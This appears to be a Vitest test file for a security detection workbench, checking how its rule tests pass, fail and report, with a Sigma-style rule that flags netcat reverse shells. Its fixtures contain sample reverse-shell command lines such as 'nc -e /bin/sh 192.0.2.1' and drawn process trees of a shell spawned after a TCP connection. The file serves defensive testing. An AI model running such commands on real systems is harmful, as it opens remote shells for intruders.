import { mkdirSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { schemaErrors } from '../export/schemas.js';
import { STORY } from './events.js';
import { type Desk, desk } from './workbench.js';

const NETCAT = `title: Netcat
id: 11111111-1111-4111-8111-111111111111
level: high
logsource: {product: linux, category: process_creation}
detection:
  selection: {Image|endswith: /nc, CommandLine|contains: ' -e '}
  condition: selection
`;

const GOOD = `rules: [../netcat.yml]
tests:
  - name: gives a shell away
    fields: { Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 192.0.2.1 }
    expect: Netcat
  - name: checks a port
    fields:
      - { Image: /usr/bin/nc, CommandLine: nc -z db 5432 }
      - { Image: /usr/bin/ncat, CommandLine: ncat -e sh }
    expectNot: [11111111-1111-4111-8111-111111111111]
  - name: a shell below an interpreter
    drawing: |
      container web
      0       node server.js
      1200      python3 -c "x"
      1200.5      > tcp 203.0.113.9:4444
      1200.6      /bin/bash
    expect: reverse-shell-descendant
  - name: a recording
    events: ../story.jsonl
    quietFrom: critical
`;

const test = (text: string): string => `rules: []\ntests:\n  - ${text}\n`;

let at: Desk;
beforeAll(() => {
  at = desk();
  mkdirSync(at.path('tests'));
  at.file('story.jsonl', STORY);
  at.file('netcat.yml', NETCAT);
  at.file('tests/good.test.yml', GOOD);
});
afterAll(() => at.clear());

describe('rules test', () => {
  it('passes when rules say what is expected, of fields, drawings and recordings', () => {
    const run = at.workbench(['rules', 'test', 'tests/good.test.yml']);
    expect([run.code, run.stderr]).toEqual([0, '4 tests, 0 failed\n']);
    expect(run.stdout.split('\n').filter((line) => line.startsWith('ok'))).toHaveLength(4);
  });

  it.each([
    ['a rule that is silent', '{ name: x, fields: { Image: /bin/ls }, expect: [no-such-rule] }', 'no-such-rule did not speak'],
    [
      'a rule that speaks',
      '{ name: x, drawing: "container web\\n0  node s.js\\n9    nc h 1\\n9.1    > tcp 203.0.113.9:1\\n9.2    => sh", expectNot: reverse-shell-same-process }',
      'reverse-shell-same-process spoke',
    ],
    [
      'noise',
      '{ name: x, drawing: "container web\\n0  node s.js\\n9    nc h 1\\n9.1    > tcp 203.0.113.9:1\\n9.2    => sh", quietFrom: high }',
      'spoke at level critical',
    ],
  ])('fails on %s, and says so in every form', (_, text, said) => {
    at.file('tests/bad.test.yml', test(text));
    const run = at.workbench(['rules', 'test', 'tests/bad.test.yml']);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('FAILED');
    expect(run.stdout).toContain(said);
    const junit = at.workbench(['rules', 'test', 'tests/bad.test.yml', '--format', 'junit']);
    expect(junit.stdout).toContain('<testsuites name="workbench rules" tests="1" failures="1" errors="0" skipped="0">');
    const json = JSON.parse(at.workbench(['rules', 'test', 'tests/bad.test.yml', '--format', 'json']).stdout);
    expect(schemaErrors('rule-tests', json)).toEqual([]);
    expect(json.tests).toMatchObject([{ name: 'x', passed: false }]);
  });

  it.each([
    ['a key that there is not', test('{ name: x, fields: {}, expct: a }'), 'did you mean expect?'],
    ['a test that expects nothing', test('{ name: x, fields: { Image: a } }'), 'says what it expects'],
    ['a test that shows two things', test('{ name: x, fields: {}, events: a, expect: b }'), 'shows one of'],
    ['a drawing that is not right', test('{ name: x, drawing: "container web\\nnonsense", expect: b }'), 'not drawn right'],
    ['a level that there is not', test('{ name: x, fields: {}, quietFrom: loud }'), 'quietFrom is a level'],
    ['a list', '- a\n', 'a file of tests is a mapping'],
  ])('refuses %s with its place', (_, text, reason) => {
    at.file('tests/wrong.test.yml', text);
    const run = at.workbench(['rules', 'test', 'tests/wrong.test.yml']);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/wrong\.test\.yml:\d+:\d+/);
    expect(run.stderr).toContain(reason);
  });

  it('ends in 3 when there is no test', () => {
    at.file('tests/empty.test.yml', 'tests: []\n');
    expect(at.workbench(['rules', 'test', 'tests/empty.test.yml']).code).toBe(3);
  });

  it('holds the built-in rules against their own examples', () => {
    const run = at.workbench(['rules', 'test']);
    expect([run.code, run.stdout.includes('FAILED')]).toEqual([0, false]);
    expect(run.stdout).toContain('reverse-shell-descendant: ');
  });
});

describe('detect --stats', () => {
  it('says what each rule took, on standard error and in the document', () => {
    const run = at.workbench(['detect', 'story.jsonl', '--fail-on', 'none', '--format', 'json', '--sigma', 'netcat.yml', '--stats']);
    expect(run.stderr).toMatch(/MS +ASKED +MATCHED +RULE/);
    const report = JSON.parse(run.stdout);
    expect(schemaErrors('detection-report', report)).toEqual([]);
    expect(report.rules.stats.map(({ id }: { id: string }) => id)).toContain('late-execution');
    const plain = at.workbench(['detect', 'story.jsonl', '--fail-on', 'none', '--format', 'json']);
    expect(JSON.parse(plain.stdout).rules.stats).toBeUndefined();
  });
});
